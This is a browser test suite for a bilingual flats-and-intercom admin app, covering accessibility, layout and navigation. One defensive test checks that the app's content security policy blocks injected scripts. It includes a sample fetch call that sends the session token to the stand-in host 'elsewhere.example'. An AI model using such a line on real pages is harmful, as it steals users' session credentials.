import { expect } from 'vitest';
import { itInChromium, personAt, useBrowser } from '../support/browser.ts';
import { HOUSES } from '../support/houses.ts';
import { start } from '../support/start.ts';

const browser = useBrowser();

const SCREENS: readonly (readonly [place: string, en: string, ru: string])[] = [
  ['#/', 'Overview', 'Обзор'],
  ['#/flats', 'Flats', 'Квартиры'],
  ['#/flats?address=nowhere', 'Flats', 'Квартиры'],
  ['#/intercoms/1', '12 Garden Street, entrance 1', '12 Garden Street, entrance 1'],
  ['#/intercoms/1/102', '12 Garden Street, entrance 1', '12 Garden Street, entrance 1'],
  ['#/intercoms/99', 'Building 99', 'Дом 99'],
  ['#/history', 'History', 'История'],
  ['#/import', 'Import', 'Импорт'],
  ['#/nothing', 'There is no such page.', 'Такой страницы нет.'],
];

for (const locale of ['en-GB', 'ru-RU']) {
  itInChromium(`every screen in ${locale}, light and dark: nothing for axe, the policy or another site`, async () => {
    await using world = await start({ flats: HOUSES });
    await world.patch({ intercom_id: 1, flat: 102, is_analog_line_available: true });
    await using person = await personAt(await browser(), world.url, { locale });
    const { page } = person;
    for (const [place, en, ru] of SCREENS) {
      await person.open(place);
      await page.getByRole('heading', { level: 1, name: locale === 'en-GB' ? en : ru, exact: true }).waitFor();
      // Until all is read.
      await expect.poll(() => page.locator('.late').count()).toBe(0);
      expect([place, await person.objections()]).toEqual([place, []]);
    }
    expect(await page.evaluate('document.documentElement.lang')).toBe(locale.slice(0, 2));
    await world.bearer('read');
    await person.open('#/flats?gate');
    await page.getByRole('heading', { level: 1, name: locale === 'en-GB' ? 'Sign in' : 'Вход' }).waitFor();
    expect(await person.objections()).toEqual([]);
    expect(person.troubles).toEqual([]);
  });
}

/** The width of the page, and whether a panel holds all that is in it. */
const WIDTHS = `[document.documentElement.scrollWidth,
  [...document.querySelectorAll('.panel')].every((it) => it.scrollWidth <= it.clientWidth)]`;
/** The heights at which the parts of the bar stand, without the search. */
const ROWS = `new Set([...document.querySelectorAll('header > :not(search)')].map((it) => {
  const { top, bottom } = it.getBoundingClientRect();
  return Math.round((top + bottom) / 2);
})).size`;

for (const locale of ['en-GB', 'ru-RU']) {
  itInChromium(`a phone of 360 pixels never scrolls sideways, and the bar is one row on 1100 (${locale})`, async () => {
    await using world = await start({ flats: HOUSES });
    const token = (await world.bearer('admin', 'anna')).authorization.replace('Bearer ', '');
    const viewport = { width: 360, height: 700 };
    await using person = await personAt(await browser(), world.url, { locale, token, viewport });
    const { page } = person;
    for (const [place, en, ru] of SCREENS) {
      await person.open(place);
      await page.getByRole('heading', { level: 1, name: locale === 'en-GB' ? en : ru, exact: true }).waitFor();
      await expect.poll(() => page.locator('.late').count()).toBe(0);
      expect([place, await page.evaluate(WIDTHS)]).toEqual([place, [360, true]]);
    }
    await page.setViewportSize({ width: 1100, height: 700 });
    await person.open('#/intercoms/1');
    await page.locator('.connection.live').waitFor();
    expect(await page.evaluate(ROWS)).toBe(1);
    expect(person.troubles).toEqual([]);
  });
}

itInChromium('scripts from elsewhere are stopped', async () => {
  await using world = await start();
  await using person = await personAt(await browser(), world.url);
  await person.open();
  for (const attack of [
    "document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,1' }))",
    "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "fetch('https://elsewhere.example/?' + sessionStorage.getItem('token'))",
  ]) {
    await person.page.evaluate(`(async () => { try { await ${attack} } catch {} })()`);
  }
  await expect
    .poll(() => person.troubles.map((it) => it.split(' ')[1]))
    .toEqual(['require-trusted-types-for', 'require-trusted-types-for', 'connect-src']);
});

itInChromium('the overview leads to the flats, buildings and hours that it counts', async () => {
  await using world = await start({ flats: HOUSES, now: Date.now });
  await world.patch({ intercom_id: 1, flat: 102, is_analog_line_available: true });
  await using person = await personAt(await browser(), world.url);
  const { page } = person;
  await person.open();
  await page.getByRole('link', { name: /: 1 change$/ }).click();
  await page.getByRole('row').filter({ hasText: '102' }).waitFor();
  await person.open();
  await page.getByRole('link', { name: '1 of 30 flats' }).click();
  await page.getByText('1 match').waitFor();
  await page.getByRole('link', { name: '117' }).waitFor();
  await person.open();
  await page.getByRole('link', { name: 'Smartphone, Landline, Handset' }).click();
  await page.getByText('30 match').waitFor();
  await person.open();
  await page.getByRole('link', { name: '90', exact: true }).click();
  await page.getByText('90 match').waitFor();
  expect(person.troubles).toEqual([]);
});
